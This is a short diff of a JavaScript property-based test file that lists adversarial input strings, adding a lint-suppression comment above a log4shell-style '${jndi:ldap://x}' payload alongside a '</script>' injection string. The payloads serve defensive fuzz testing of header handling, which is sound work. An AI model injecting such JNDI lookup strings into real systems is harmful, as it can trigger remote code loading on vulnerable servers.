@@ -36,6 +36,7 @@ const nasty = fc.constantFrom(
   ' ',
   '\\',
   '</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, on purpose.
   '${jndi:ldap://x}',
 );
 /** Header values: valid ids, invalid ones carrying the marker, huge ones, and non-strings. */
